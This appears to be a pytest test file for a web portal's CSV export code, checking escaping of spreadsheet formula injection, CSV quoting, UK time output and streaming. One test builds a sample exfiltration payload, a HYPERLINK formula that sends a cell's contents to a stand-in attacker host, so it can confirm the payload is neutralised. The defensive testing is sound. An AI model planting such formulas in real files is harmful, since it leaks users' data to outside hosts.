"""Files for spreadsheet programs: whole, and no cell of them is run."""

import csv
import io
from datetime import UTC, datetime
from itertools import islice

import pytest

from portal.web.spreadsheets import csv_blocks, neutral


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝", "\u00a0@"])
def test_a_cell_that_would_be_a_formula_is_text(start):
    cell = f'{start}HYPERLINK("https://evil.example.org?"&A1)'
    assert neutral(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["Kiln Street", "a=b", "10-12", "", "é", "'quoted'"])
def test_other_text_stays_as_it_is(cell):
    assert neutral(cell) == cell


def test_numbers_stay_numbers_and_moments_are_in_uk_time():
    assert neutral(-3) == -3
    assert neutral(datetime(2026, 7, 1, 12, 0, tzinfo=UTC)) == "2026-07-01T13:00:00+01:00"


def test_what_is_written_reads_back_row_by_row():
    rows = [["a, b", 'say "x"', "two\nlines"], ["=1+1", None, -5]]
    text = "".join(csv_blocks(["one", "two", "three"], rows)).removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["one", "two", "three"], ["a, b", 'say "x"', "two\nlines"], ["'=1+1", "", "-5"]]


def test_the_first_rows_are_sent_before_the_last_is_read():
    def endless():
        while True:
            yield ["row"]

    first, second = islice(csv_blocks(["head"], endless()), 2)
    assert first.startswith("\ufeffhead\r\nrow\r\n") and set(second.splitlines()) == {"row"}
